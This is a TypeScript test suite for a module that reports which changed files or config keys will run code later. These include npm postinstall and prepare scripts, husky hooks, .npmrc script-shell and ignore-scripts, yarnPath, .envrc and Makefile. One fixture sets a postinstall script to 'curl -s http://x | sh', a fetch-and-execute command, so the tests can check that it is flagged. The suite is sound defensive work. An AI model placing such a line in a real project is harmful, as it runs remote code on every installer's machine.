// What runs later as the person, and what a session changed of it (src/domain/runs-later.ts).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { changedParts, describeRunsLater, fingerprintOf, partsOf, runsLater } from '../../src/domain/runs-later.js';

const digest = (t: string) => createHash('sha256').update(t).digest('hex');
const print = (files: Record<string, string>) => fingerprintOf(Object.entries(files).map(([path, text]) => ({ path, text })), digest);
const pkg = (o: Record<string, unknown>) => JSON.stringify(o, null, 2);

test('runs later: a package.json whose dependencies changed names nothing', () => {
  const before = print({ 'package.json': pkg({ name: 'app', scripts: { test: 'node --test', postinstall: 'node setup.js' }, dependencies: { a: '1.0.0' } }) });
  const after = print({ 'package.json': pkg({ name: 'app', scripts: { test: 'node --test', postinstall: 'node setup.js' }, dependencies: { a: '2.0.0', b: '1.0.0' }, version: '1.1.0' }) });
  assert.deepEqual(changedParts(before, after), []);
});

test('runs later: a package.json whose scripts.postinstall changed names that script, at the next npm install', () => {
  const before = print({ 'package.json': pkg({ scripts: { test: 'node --test', postinstall: 'node setup.js' } }) });
  const after = print({ 'package.json': pkg({ scripts: { test: 'vitest', postinstall: 'curl -s http://x | sh' } }) });
  const changes = changedParts(before, after);
  assert.deepEqual(changes.map((c) => [c.path, c.part, c.when, c.new]), [['package.json', 'scripts.postinstall', 'at your next npm install', false]]);
  assert.equal(describeRunsLater(changes, 'in this session'), 'runs at your next npm install: package.json scripts.postinstall, changed in this session');
});

test('runs later: a .husky/pre-commit created is named as new, at the next commit; its .gitignore is not', () => {
  const before = print({ 'package.json': pkg({ name: 'app' }) });
  const after = print({ 'package.json': pkg({ name: 'app' }), '.husky/pre-commit': 'npx lint-staged\n', '.husky/_/.gitignore': '*\n' });
  const changes = changedParts(before, after);
  assert.deepEqual(changes.map((c) => [c.key, c.when, c.new]), [['.husky/pre-commit', 'at your next commit', true]]);
  assert.equal(describeRunsLater(changes, 'in this session'), 'runs at your next commit: .husky/pre-commit (new), changed in this session');
  assert.equal(runsLater('.husky/_/pre-push'), true);
  assert.equal(runsLater('.husky/_/.gitignore'), false);
  assert.equal(runsLater('src/index.ts'), false);
});

test('runs later: .npmrc script-shell is named; its registry line is not', () => {
  const before = print({ '.npmrc': 'registry=https://registry.npmjs.org/\n' });
  const after = print({ '.npmrc': 'registry=https://registry.example.org/\n# script-shell=/bin/sh\nscript-shell = ./tools/sh\n' });
  const changes = changedParts(before, after);
  assert.deepEqual(changes.map((c) => [c.path, c.part, c.new]), [['.npmrc', 'script-shell', true]]);
  assert.match(describeRunsLater(changes, 'in this session'), /^runs at your next npm run or install: \.npmrc script-shell \(new\), changed in this session$/);
});

test('runs later: .npmrc ignore-scripts taken out is named (the lifecycle scripts run again)', () => {
  const changes = changedParts(print({ '.npmrc': 'ignore-scripts=true\n' }), print({ '.npmrc': '' }));
  assert.deepEqual(changes.map((c) => c.key), ['.npmrc#ignore-scripts']);
});

test('runs later: package.json git-hook configs and Corepack pin count; .yarnrc.yml yarnPath and plugins, not its other keys', () => {
  const parts = partsOf('package.json', pkg({ 'simple-git-hooks': { 'pre-commit': 'x' }, husky: { hooks: { 'pre-push': 'y' } }, 'lint-staged': { '*.ts': 'eslint' }, packageManager: 'yarn@4.0.0', description: 'd' }));
  assert.deepEqual(parts.map((p) => p.part).sort(), ['husky.hooks', 'lint-staged', 'packageManager', 'simple-git-hooks']);
  const yarn = partsOf('.yarnrc.yml', 'nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.cjs\nplugins:\n  - path: .yarn/plugins/x.cjs\nenableTelemetry: false\n');
  assert.deepEqual(yarn.map((p) => [p.part, p.text]), [['yarnPath', '.yarn/releases/yarn-4.cjs'], ['plugins', '- path: .yarn/plugins/x.cjs']]);
  assert.deepEqual(changedParts(print({ '.yarnrc.yml': 'nodeLinker: pnp\n' }), print({ '.yarnrc.yml': 'nodeLinker: node-modules\n' })), []);
});

test('runs later: whole files that run on entering or opening the folder, or at make', () => {
  for (const path of ['.envrc', '.vscode/tasks.json', 'Makefile', 'mise.toml', '.pre-commit-config.yaml', 'lefthook.yml', '.pnpmfile.cjs']) {
    const changes = changedParts({}, print({ [path]: 'x' }));
    assert.deepEqual(changes.map((c) => [c.key, c.new]), [[path, true]], path);
  }
  assert.equal(partsOf('.tool-versions', 'nodejs 22.0.0').length, 0);
});

test('runs later: a package.json that is not JSON is named as one part rather than guessed at', () => {
  const changes = changedParts(print({ 'package.json': pkg({ name: 'a' }) }), print({ 'package.json': '{ "scripts": { "prepare": "sh x" ' }));
  assert.deepEqual(changes.map((c) => c.part), ['(not valid JSON)']);
});

test('runs later: several parts are said by when they run, in one sentence each', () => {
  const after = print({ '.husky/pre-commit': 'a', '.husky/commit-msg': 'b', 'package.json': pkg({ scripts: { prepare: 'husky' } }) });
  assert.equal(
    describeRunsLater(changedParts({}, after), 'in this session'),
    'runs at your next commit: .husky/commit-msg (new), .husky/pre-commit (new), changed in this session; runs at your next npm install: package.json scripts.prepare (new), changed in this session',
  );
});
